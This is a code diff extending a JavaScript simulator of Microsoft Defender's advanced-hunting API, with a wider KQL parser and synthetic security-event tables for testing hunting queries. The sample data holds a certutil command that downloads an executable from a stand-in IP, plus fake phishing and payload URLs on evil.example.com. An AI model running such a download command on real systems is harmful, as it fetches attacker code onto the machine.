@@ -1,7 +1,9 @@
 // @ts-check
 'use strict';
 // Advanced hunting on both APIs with a tiny KQL subset:
-//   Table | where Col == "x" (==, !=, =~, !~) | take N | limit N | project a, b | count
+//   Table | where Col == "x" (==, !=, =~, !~, has, contains, >, >=, <, <= against literals or ago(7d);
+//   conditions joined with and/or) | take N | limit N | project a, b | count | order by Col [desc|asc]
+//   | summarize Name = count() | dcount(Col) | min(Col) | max(Col), … [by Col, …]
 // Results are streamed in chunks so that generated tables of 100,000 rows stay cheap.
 const { HttpError, toApiTime } = require('./util');
 
@@ -48,8 +50,13 @@ function tokenize(query) {
 		} else if ((m = /^\d+(\.\d+)?/.exec(rest))) {
 			take('number', m[0], Number(m[0]));
 		} else if ((m = /^"((?:[^"\\\n]|\\.)*)"|^'((?:[^'\\\n]|\\.)*)'/.exec(rest))) {
-			take('string', m[0], (m[1] ?? m[2]).replace(/\\(.)/g, '$1'));
-		} else if ((m = /^(==|!=|=~|!~|\||,)/.exec(rest))) {
+			const escapes = /** @type {Record<string, string>} */ ({ n: '\n', r: '\r', t: '\t' });
+			take(
+				'string',
+				m[0],
+				(m[1] ?? m[2]).replace(/\\(.)/g, (_, c) => escapes[c] ?? c),
+			);
+		} else if ((m = /^(==|!=|=~|!~|>=|<=|>|<|=|\(|\)|\||,)/.exec(rest))) {
 			take('op', m[0], m[0]);
 		} else {
 			take('other', query[i], query[i]);
@@ -91,6 +98,73 @@ function plan(query, tables) {
 		return token;
 	};
 
+	/** @param {string} text */
+	const expectText = (text) => {
+		const token = next();
+		if (token.text !== text) throw parseError(token);
+		return token;
+	};
+
+	/** A literal, or ago(<n>d|h|m|s) as an ISO time. */
+	const literal = () => {
+		const token = next();
+		if (token.kind === 'string' || token.kind === 'number') return token.value;
+		if (token.text === 'true' || token.text === 'false') return token.text === 'true';
+		if (token.text === 'ago') {
+			expectText('(');
+			const amount = expect('number');
+			const unit = expect('ident');
+			const ms = /** @type {Record<string, number>} */ ({
+				d: 86_400_000,
+				h: 3_600_000,
+				m: 60_000,
+				s: 1000,
+			})[unit.text];
+			if (!ms) throw parseError(unit);
+			expectText(')');
+			return new Date(Date.now() - /** @type {number} */ (amount.value) * ms).toISOString();
+		}
+		throw parseError(token);
+	};
+
+	/** `Col op literal` terms joined by and/or (and binds tighter). @returns {(row: Row) => boolean} */
+	const parseCondition = () => {
+		/** @type {((row: Row) => boolean)[][]} */
+		const alternatives = [[]];
+		for (;;) {
+			const name = column(expect('ident'));
+			const opToken = next();
+			const op = opToken.text;
+			if (!['==', '!=', '=~', '!~', 'has', 'contains', '>', '>=', '<', '<='].includes(op))
+				throw parseError(opToken);
+			const expected = literal();
+			const lowerExpected = String(expected).toLowerCase();
+			/** @type {(v: unknown) => boolean} */
+			let test;
+			if (op === '=~' || op === '!~')
+				test = (v) => (String(v).toLowerCase() === lowerExpected) !== (op === '!~');
+			else if (op === 'has' || op === 'contains')
+				test = (v) =>
+					v !== null && v !== undefined && String(v).toLowerCase().includes(lowerExpected);
+			else if (op === '==' || op === '!=')
+				test = (v) =>
+					(typeof expected === 'string' ? String(v) === expected : v === expected) !==
+					(op === '!=');
+			else
+				test = (v) =>
+					v !== null &&
+					v !== undefined &&
+					ORDERED[/** @type {keyof typeof ORDERED} */ (op)](compare(v, expected));
+			alternatives[alternatives.length - 1].push((row) => test(row[name]));
+			if (tokens[pos].text === 'and') pos++;
+			else if (tokens[pos].text === 'or') {
+				pos++;
+				alternatives.push([]);
+			} else break;
+		}
+		return (row) => alternatives.some((all) => all.every((term) => term(row)));
+	};
+
 	const tableToken = expect('ident');
 	const table = tables.get(tableToken.text);
 	if (!table) throw unresolved(tableToken);
@@ -113,24 +187,9 @@ function plan(query, tables) {
 		if (next().text !== '|') throw parseError(tokens[pos - 1]);
 		const operator = expect('ident');
 		if (operator.text === 'where') {
-			const name = column(expect('ident'));
-			const opToken = next();
-			if (!['==', '!=', '=~', '!~'].includes(opToken.text)) throw parseError(opToken);
-			const literal = next();
-			const isBoolean = literal.text === 'true' || literal.text === 'false';
-			if (!(literal.kind === 'string' || literal.kind === 'number' || isBoolean))
-				throw parseError(literal);
-			const expected = literal.kind === 'ident' ? literal.text === 'true' : literal.value;
-			const caseless = opToken.text.includes('~');
-			const negate = opToken.text.startsWith('!');
-			const equals = (/** @type {unknown} */ v) =>
-				caseless
-					? String(v).toLowerCase() === String(expected).toLowerCase()
-					: typeof expected === 'string'
-						? String(v) === expected
-						: v === expected;
+			const condition = parseCondition();
 			then(function* (rows) {
-				for (const row of rows) if (equals(row[name]) !== negate) yield row;
+				for (const row of rows) if (condition(row)) yield row;
 			});
 		} else if (operator.text === 'take' || operator.text === 'limit') {
 			const n = expect('number');
@@ -153,6 +212,87 @@ function plan(query, tables) {
 			schema = names.map((n) => /** @type {Column} */ (schema.find((c) => c.name === n)));
 			then(function* (rows) {
 				for (const row of rows) yield Object.fromEntries(names.map((n) => [n, row[n]]));
+			});
+		} else if (
+			(operator.text === 'order' || operator.text === 'sort') &&
+			tokens[pos].text === 'by'
+		) {
+			pos++;
+			const name = column(expect('ident'));
+			const descending = tokens[pos].text !== 'asc';
+			if (tokens[pos].text === 'asc' || tokens[pos].text === 'desc') pos++;
+			then((rows) => [...rows].sort((a, b) => compare(a[name], b[name]) * (descending ? -1 : 1)));
+		} else if (operator.text === 'summarize') {
+			/** @type {{ name: string, fn: string, of: string | null }[]} */
+			const aggregates = [];
+			do {
+				if (tokens[pos].text === ',') pos++;
+				const first = expect('ident');
+				const named = tokens[pos].text === '=';
+				if (named) pos++;
+				const fnToken = named ? expect('ident') : first;
+				if (!['count', 'dcount', 'min', 'max'].includes(fnToken.text)) throw parseError(fnToken);
+				expectText('(');
+				const of = fnToken.text === 'count' ? null : column(expect('ident'));
+				expectText(')');
+				aggregates.push({
+					name: named ? first.text : fnToken.text === 'count' ? 'count_' : `${fnToken.text}_${of}`,
+					fn: fnToken.text,
+					of,
+				});
+			} while (tokens[pos].text === ',');
+			/** @type {string[]} */
+			const by = [];
+			if (tokens[pos].text === 'by') {
+				pos++;
+				by.push(column(expect('ident')));
+				while (tokens[pos].text === ',') {
+					pos++;
+					by.push(column(expect('ident')));
+				}
+			}
+			const typeOf = (/** @type {string} */ name) =>
+				/** @type {Column} */ (schema.find((c) => c.name === name)).type;
+			schema = [
+				...by.map((name) => ({ name, type: typeOf(name) })),
+				...aggregates.map((a) => ({
+					name: a.name,
+					type: a.of === null || a.fn === 'dcount' ? 'Int64' : typeOf(a.of),
+				})),
+			];
+			then(function* (rows) {
+				/** @type {Map<string, { key: Row, values: Row[] }>} */
+				const groups = new Map();
+				for (const row of rows) {
+					const key = Object.fromEntries(by.map((name) => [name, row[name]]));
+					const id = JSON.stringify(key);
+					const group = groups.get(id) ?? { key, values: [] };
+					group.values.push(row);
+					groups.set(id, group);
+				}
+				for (const { key, values } of groups.values()) {
+					const result = { ...key };
+					for (const a of aggregates) {
+						const of = a.of;
+						const present =
+							of === null
+								? []
+								: values.map((row) => row[of]).filter((v) => v !== null && v !== undefined);
+						result[a.name] =
+							a.fn === 'count'
+								? values.length
+								: a.fn === 'dcount'
+									? new Set(present.map(String)).size
+									: present.reduce(
+											(best, v) =>
+												best === null || compare(v, best) * (a.fn === 'min' ? -1 : 1) > 0
+													? v
+													: best,
+											/** @type {unknown} */ (null),
+										);
+					}
+					yield result;
+				}
 			});
 		} else if (operator.text === 'count') {
 			schema = [{ name: 'Count', type: 'Int64' }];
@@ -177,6 +317,17 @@ function plan(query, tables) {
 			}
 		},
 	};
+}
+
+/** @type {Record<'>' | '>=' | '<' | '<=', (order: number) => boolean>} */
+const ORDERED = { '>': (c) => c > 0, '>=': (c) => c >= 0, '<': (c) => c < 0, '<=': (c) => c <= 0 };
+
+/** Orders numbers as numbers and everything else (ISO times included) as text. @param {unknown} a @param {unknown} b */
+function compare(a, b) {
+	if (typeof a === 'number' && typeof b === 'number') return a - b;
+	const x = String(a ?? '');
+	const y = String(b ?? '');
+	return x < y ? -1 : x > y ? 1 : 0;
 }
 
 /** @param {Table} table */
@@ -252,7 +403,232 @@ function defaultTables() {
 		['certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe', 'alice'],
 		['notepad.exe', 'notepad.exe C:\\Users\\carol\\notes.txt', 'carol'],
 	];
+	const S = (/** @type {string[]} */ names, /** @type {Record<string, string>} */ types = {}) =>
+		names.map((name) => ({
+			name,
+			type: types[name] ?? (name === 'Timestamp' ? 'DateTime' : 'String'),
+		}));
+	const [ws1, ws2, srv] = devices;
 	return new Map([
+		[
+			'DeviceNetworkEvents',
+			toTable('DeviceNetworkEvents', {
+				schema: S(
+					[
+						'Timestamp',
+						'DeviceId',
+						'DeviceName',
+						'ActionType',
+						'RemoteIP',
+						'RemotePort',
+						'RemoteUrl',
+						'LocalIP',
+						'InitiatingProcessFileName',
+						'InitiatingProcessAccountName',
+					],
+					{ RemotePort: 'Int32' },
+				),
+				rows: [
+					{
+						Timestamp: at(50),
+						DeviceId: ws1[0],
+						DeviceName: ws1[1],
+						ActionType: 'ConnectionSuccess',
+						RemoteIP: '203.0.113.7',
+						RemotePort: 443,
+						RemoteUrl: 'evil.example.com',
+						LocalIP: '10.0.0.11',
+						InitiatingProcessFileName: 'powershell.exe',
+						InitiatingProcessAccountName: 'alice',
+					},
+					{
+						Timestamp: at(45),
+						DeviceId: srv[0],
+						DeviceName: srv[1],
+						ActionType: 'InboundConnectionAccepted',
+						RemoteIP: '10.0.0.11',
+						RemotePort: 1433,
+						RemoteUrl: '',
+						LocalIP: '10.0.2.9',
+						InitiatingProcessFileName: 'sqlservr.exe',
+						InitiatingProcessAccountName: 'mssql',
+					},
+				],
+			}),
+		],
+		[
+			'DeviceLogonEvents',
+			toTable('DeviceLogonEvents', {
+				schema: S([
+					'Timestamp',
+					'DeviceId',
+					'DeviceName',
+					'ActionType',
+					'LogonType',
+					'AccountDomain',
+					'AccountName',
+					'RemoteIP',
+					'RemoteDeviceName',
+				]),
+				rows: [
+					{
+						Timestamp: at(70),
+						DeviceId: ws1[0],
+						DeviceName: ws1[1],
+						ActionType: 'LogonSuccess',
+						LogonType: 'Interactive',
+						AccountDomain: 'contoso',
+						AccountName: 'alice',
+						RemoteIP: '',
+						RemoteDeviceName: '',
+					},
+					{
+						Timestamp: at(40),
+						DeviceId: srv[0],
+						DeviceName: srv[1],
+						ActionType: 'LogonFailed',
+						LogonType: 'Network',
+						AccountDomain: 'contoso',
+						AccountName: 'administrator',
+						RemoteIP: '10.0.0.11',
+						RemoteDeviceName: ws1[1],
+					},
+				],
+			}),
+		],
+		[
+			'IdentityLogonEvents',
+			toTable('IdentityLogonEvents', {
+				schema: S([
+					'Timestamp',
+					'AccountUpn',
+					'AccountName',
+					'AccountDomain',
+					'ActionType',
+					'LogonType',
+					'Application',
+					'Protocol',
+					'DeviceName',
+					'IPAddress',
+					'Location',
+					'FailureReason',
+				]),
+				rows: [
+					{
+						Timestamp: at(80),
+						AccountUpn: 'alice@contoso.com',
+						AccountName: 'alice',
+						AccountDomain: 'contoso.com',
+						ActionType: 'LogonSuccess',
+						LogonType: 'Interactive',
+						Application: 'Microsoft 365',
+						Protocol: '',
+						DeviceName: ws1[1],
+						IPAddress: '198.51.100.20',
+						Location: 'NL',
+						FailureReason: '',
+					},
+					{
+						Timestamp: at(30),
+						AccountUpn: 'alice@contoso.com',
+						AccountName: 'alice',
+						AccountDomain: 'contoso.com',
+						ActionType: 'LogonFailed',
+						LogonType: 'Interactive',
+						Application: 'Microsoft 365',
+						Protocol: '',
+						DeviceName: '',
+						IPAddress: '203.0.113.7',
+						Location: 'RU',
+						FailureReason: 'InvalidPassword',
+					},
+				],
+			}),
+		],
+		[
+			'DeviceFileEvents',
+			toTable('DeviceFileEvents', {
+				schema: S([
+					'Timestamp',
+					'DeviceId',
+					'DeviceName',
+					'ActionType',
+					'FileName',
+					'FolderPath',
+					'SHA1',
+					'SHA256',
+					'MD5',
+					'InitiatingProcessFileName',
+				]),
+				rows: [ws1, ws2].map(([id, name], i) => ({
+					Timestamp: at(55 - i * 10),
+					DeviceId: id,
+					DeviceName: name,
+					ActionType: 'FileCreated',
+					FileName: 'invoice.exe',
+					FolderPath: 'C:\\Users\\Public\\Downloads',
+					SHA1: '3395856ce81f2b7382dee72602f798b642f14140',
+					SHA256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
+					MD5: '0cc175b9c0f1b6a831c399e269772661',
+					InitiatingProcessFileName: 'outlook.exe',
+				})),
+			}),
+		],
+		[
+			'EmailEvents',
+			toTable('EmailEvents', {
+				schema: S([
+					'Timestamp',
+					'NetworkMessageId',
+					'RecipientEmailAddress',
+					'SenderFromAddress',
+					'Subject',
+					'DeliveryAction',
+					'DeliveryLocation',
+					'ThreatTypes',
+				]),
+				rows: [
+					{
+						Timestamp: at(90),
+						NetworkMessageId: '6f3c1a2b-0d4e-4f5a-9b8c-7d6e5f4a3b2c',
+						RecipientEmailAddress: 'carol@contoso.com',
+						SenderFromAddress: 'billing@evil.example.com',
+						Subject: 'Invoice overdue',
+						DeliveryAction: 'Delivered',
+						DeliveryLocation: 'Inbox/folder',
+						ThreatTypes: 'Phish',
+					},
+				],
+			}),
+		],
+		[
+			'UrlClickEvents',
+			toTable('UrlClickEvents', {
+				schema: S(
+					[
+						'Timestamp',
+						'AccountUpn',
+						'Url',
+						'ActionType',
+						'IsClickedThrough',
+						'Workload',
+						'NetworkMessageId',
+					],
+					{ IsClickedThrough: 'Boolean' },
+				),
+				rows: [
+					{
+						Timestamp: at(85),
+						AccountUpn: 'carol@contoso.com',
+						Url: 'https://evil.example.com/payload.ps1',
+						ActionType: 'ClickAllowed',
+						IsClickedThrough: true,
+						Workload: 'Email',
+						NetworkMessageId: '6f3c1a2b-0d4e-4f5a-9b8c-7d6e5f4a3b2c',
+					},
+				],
+			}),
+		],
 		[
 			'DeviceInfo',
 			toTable('DeviceInfo', {
@@ -287,6 +663,7 @@ function defaultTables() {
 					{ name: 'ProcessId', type: 'Int64' },
 					{ name: 'AccountName', type: 'String' },
 					{ name: 'AdditionalFields', type: 'Dynamic' },
+					...S(['AccountDomain', 'FolderPath', 'SHA256', 'InitiatingProcessFileName']),
 				],
 				rows: processes.map(([file, cmd, account], i) => ({
 					Timestamp: at(60 - i * 5),
@@ -297,6 +674,10 @@ function defaultTables() {
 					ProcessCommandLine: cmd,
 					ProcessId: 4100 + i * 12,
 					AccountName: account,
+					AccountDomain: 'contoso',
+					FolderPath: `C:\\Windows\\System32\\${file}`,
+					SHA256: null,
+					InitiatingProcessFileName: 'explorer.exe',
 					AdditionalFields: JSON.stringify({
 						ProcessIntegrityLevel: i === 2 ? 'System' : 'Medium',
 					}), // Dynamic as a JSON string, as XDR often sends it
@@ -350,10 +731,117 @@ async function streamRows(res, head, rows, tail) {
 /** @param {string} seconds */
 const timeSpan = (seconds) => `00:00:${seconds.padStart(10, '0')}`;
 
+const ALERT_EVIDENCE_COLUMNS = [
+	'Timestamp',
+	'AlertId',
+	'Title',
+	'ServiceSource',
+	'DetectionSource',
+	'EntityType',
+	'EvidenceRole',
+	'DeviceId',
+	'DeviceName',
+	'AccountName',
+	'AccountDomain',
+	'AccountSid',
+	'AccountUpn',
+	'FileName',
+	'FolderPath',
+	'SHA1',
+	'SHA256',
+	'ProcessCommandLine',
+	'RemoteIP',
+	'RemoteUrl',
+	'NetworkMessageId',
+	'EmailSubject',
+	'RegistryKey',
+	'RegistryValueName',
+	'RegistryValueData',
+];
+
 /**
- * @param {{ apiBases: Record<'graph', string>, getTenant: (idOrDomain: string) => { id: string } }} options
+ * AlertEvidence as the incidents' alerts have it right now: one row per entity of each alert.
+ * @param {{ alert: import('./incidents').Alert }[]} entries
  */
-function createHunting({ apiBases, getTenant }) {
+function alertEvidenceTable(entries) {
+	/** @type {Row[]} */
+	const rows = [];
+	for (const { alert: a } of entries) {
+		const base = {
+			Timestamp: a.createdTime,
+			AlertId: a.id,
+			Title: a.title,
+			ServiceSource: 'Microsoft Defender for Endpoint',
+			DetectionSource: 'Antivirus',
+			EvidenceRole: 'Related',
+		};
+		const device = { DeviceId: a.device.id, DeviceName: a.device.dnsName };
+		const add = (/** @type {string} */ type, /** @type {Row} */ fields) =>
+			rows.push({
+				...Object.fromEntries(ALERT_EVIDENCE_COLUMNS.map((c) => [c, null])),
+				...base,
+				EntityType: type,
+				...fields,
+			});
+		add('Machine', { ...device, EvidenceRole: 'Impacted' });
+		add('User', {
+			AccountName: a.account.name,
+			AccountDomain: a.account.domain,
+			AccountSid: a.account.sid,
+			AccountUpn: a.account.upn,
+		});
+		add('Process', {
+			...device,
+			FileName: a.process.fileName,
+			SHA1: a.process.sha1,
+			SHA256: a.process.sha256,
+			ProcessCommandLine: a.process.commandLine,
+		});
+		for (const e of a.evidence) {
+			if (e.kind === 'file')
+				add('File', {
+					...device,
+					FileName: e.fileName,
+					FolderPath: e.filePath,
+					SHA1: e.sha1,
+					SHA256: e.sha256,
+				});
+			else if (e.kind === 'ip') add('Ip', { RemoteIP: e.address });
+			else if (e.kind === 'url') add('Url', { RemoteUrl: e.url });
+			else if (e.kind === 'user')
+				add('User', {
+					AccountName: e.name,
+					AccountDomain: e.domain,
+					AccountSid: e.sid,
+					AccountUpn: e.upn,
+				});
+			else if (e.kind === 'mailbox') add('Mailbox', { AccountUpn: e.upn });
+			else if (e.kind === 'emailMessage')
+				add('MailMessage', { NetworkMessageId: e.networkMessageId, EmailSubject: e.subject });
+			else if (e.kind === 'registry')
+				add('RegistryValue', {
+					RegistryKey: `${e.hive}\\${e.key}`,
+					RegistryValueName: e.valueName,
+					RegistryValueData: e.value,
+				});
+			else add('SecurityGroup', { AccountSid: e.id });
+		}
+	}
+	return toTable('AlertEvidence', {
+		schema: ALERT_EVIDENCE_COLUMNS.map((name) => ({
+			name,
+			type: name === 'Timestamp' ? 'DateTime' : 'String',
+		})),
+		rows,
+	});
+}
+
+/**
+ * @param {{ apiBases: Record<'graph', string>, getTenant: (idOrDomain: string) => { id: string },
+ *   alertEntries?: (tenantId: string) => { alert: import('./incidents').Alert }[] }} options
+ *   alertEntries: the tenant's alerts, for the AlertEvidence table (unless a test sets its own)
+ */
+function createHunting({ apiBases, getTenant, alertEntries }) {
 	/** @type {Map<string, Map<string, Table>>} */
 	const tablesByTenant = new Map();
 
@@ -379,7 +867,12 @@ function createHunting({ apiBases, getTenant }) {
 		const query = body.Query ?? body.query;
 		if (typeof query !== 'string' || !query.trim())
 			throw new HttpError(400, 'BadRequest', 'The query is empty: provide a KQL query in "Query".');
-		return plan(query, tablesOf(ctx.tenantId));
+		const tables = tablesOf(ctx.tenantId);
+		if (!alertEntries || tables.has('AlertEvidence')) return plan(query, tables);
+		return plan(
+			query,
+			new Map([...tables, ['AlertEvidence', alertEvidenceTable(alertEntries(ctx.tenantId))]]),
+		);
 	}
 
 	/** @type {import('./index').Route[]} */
